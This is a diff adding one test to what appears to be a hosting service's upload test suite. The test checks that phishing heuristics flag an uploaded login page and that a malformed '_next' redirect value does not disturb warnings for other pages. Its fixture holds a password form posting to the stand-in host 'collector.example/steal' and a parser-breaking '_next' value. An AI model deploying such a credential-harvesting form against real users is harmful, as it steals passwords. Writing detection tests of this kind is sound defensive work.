@@ -69,5 +69,40 @@ for (const engine of ENGINES) {
       assert.ok(took < 5000, `the deploy took ${took} ms`)
       assert.ok(slowest < 2000, `/healthz waited ${slowest} ms during it`)
     })
+
+    it('a _next no URL parser resolves neither fails the warnings of the other pages nor the phishing heuristics (NEW-SECREVIEW-2)', async () => {
+      const submit = `${s.url}/api/forms/submit/contact`
+      // a login page posting the password elsewhere: the heuristics open a report for it
+      const phish = HTML(
+        'login',
+        `<form id="c" method="post" action="${submit}"><input type="hidden" name="_next" value="\\\\["><input type="password" name="pw"></form>` +
+          '<form method="post" action="https://collector.example/steal"><input type="password" name="p"></form>',
+      )
+      const folder = `nx${engine}`
+      const r = await batchUpload(
+        s,
+        { key: u.key },
+        folder,
+        [
+          { filename: 'a-login.html', data: phish },
+          { filename: 'b-apply.html', data: FILE_AS_NAME },
+        ],
+        true,
+        { 'accept-language': 'en' },
+      )
+      assert.equal(r.status, 200, r.text)
+      assert.deepEqual(
+        r.json.warnings.map((w: { path: string }) => w.path),
+        ['b-apply.html'],
+      )
+      const reports = await s.deps.db.k
+        .selectFrom('abuse_reports')
+        .select(['target', 'details'])
+        .where('source', '=', 'heuristic')
+        .where('target', '=', `site:${u.username}/${folder}`)
+        .execute()
+      assert.equal(reports.length, 1, 'the phishing page is reported')
+      assert.match(reports[0].details, /collector\.example/)
+    })
   })
 }
